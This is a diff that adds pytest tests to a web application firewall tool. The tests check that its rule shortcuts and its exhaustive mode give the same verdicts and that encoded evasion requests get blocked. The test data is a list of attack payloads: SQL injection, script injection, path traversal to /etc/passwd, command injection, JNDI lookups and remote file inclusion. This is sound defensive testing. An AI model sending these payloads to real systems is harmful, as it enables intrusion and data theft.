@@ -117,3 +117,52 @@ def test_bad_input_line_is_named(tmp_path):
     r = run_sluice(["waf", "test", "--rules", RULES, str(f)])
     assert r.returncode == 2
     assert "x.jsonl:2:" in r.stderr
+
+
+def verdicts(args):
+    """Per request of a `sluice waf test` run: (verdict, score, sorted rule ids)."""
+    r = run_sluice(["waf", "test", "--rules", RULES] + args, timeout=300)
+    assert r.returncode in (0, 1), r.stderr
+    out = {}
+    for m in re.finditer(r"^(\S+:\d+): (block|pass) score=(\d+) rules=(\S+)", r.stdout, re.M):
+        out[m.group(1)] = (m.group(2), int(m.group(3)), sorted(m.group(4).split(",")))
+    return out
+
+
+def evasion_rows():
+    """Requests aimed at the engine's shortcuts: case changes against the
+    regex literals and the automaton, encodings that only some chains undo,
+    base64 and double encoding, words inside runs after numbers, named
+    header targets, and values no chain changes."""
+    rows = []
+    payloads = ["INCLUDE ('HTTP://198.51.100.7/x.txt')", "include(\"php://input\")", "x 1or 1=1", "0xor 1=1",
+                "a%20UNION%20ALL%20SELECT%20b", "%2527%2520or%25201%253D1", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+                "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "..%252f..%252fetc%252fpasswd", "..\\..\\WINDOWS\\win.ini",
+                ";CAT /etc/passwd", "$(Whoami)", "`ID`", "{{7*7}}", "${JNDI:ldap://x}", "__PROTO__[a]=1",
+                "CONSTRUCTOR.PROTOTYPE", "O:8:\"stdClass\":0:{}", "javascript:ALERT(1)", "\"-Prompt (1)-\"",
+                "/.GIT/config", "http://203.0.113.9/shell.txt?", "&#x3C;script&#x3E;alert(1)", "\\u003cscript\\u003e",
+                "red running shoes", "Mozilla/5.0 (X11; Linux x86_64)", "text/html,application/xhtml+xml,*/*;q=0.8"]
+    for p in payloads:
+        q = "".join(c if c.isalnum() or c in "%-_." else "%%%02X" % ord(c) for c in p)
+        rows.append({"method": "GET", "path": "/s?q=" + q, "headers": {"Host": "a"}})
+        rows.append({"method": "GET", "path": "/", "headers": {"Host": "a", "Cookie": "c=" + q}})
+        for h in ("User-Agent", "Referer", "X-Api-Version"):
+            rows.append({"method": "GET", "path": "/", "headers": {"Host": "a", h: p}})
+        rows.append({"method": "POST", "path": "/api", "headers": {"Host": "a", "Content-Type": "application/json"},
+                     "body": json.dumps({"v": p, p[:20]: 1})})
+    return rows
+
+
+@pytest.mark.parametrize("paranoia", [1, 4])
+def test_shortcuts_change_no_verdict(tmp_path, paranoia):
+    # the engine skips chains that leave a value as it is, rules whose
+    # necessary bytes or literals are absent, and detector readings that
+    # cannot match; --exhaustive runs everything: the verdicts must agree
+    extra = write_lines(tmp_path / "evasions.jsonl", evasion_rows())
+    args = ["--paranoia", str(paranoia), ATTACKS, BENIGN, extra]
+    fast, full = verdicts(args), verdicts(["--exhaustive"] + args)
+    assert len(fast) > 2900 and fast.keys() == full.keys()
+    differ = [(k, fast[k], full[k]) for k in fast if fast[k] != full[k]]
+    assert not differ, differ[:5]
+    # and the extra requests do reach the rules
+    assert sum(1 for k, v in fast.items() if "evasions" in k and v[0] == "block") > 50
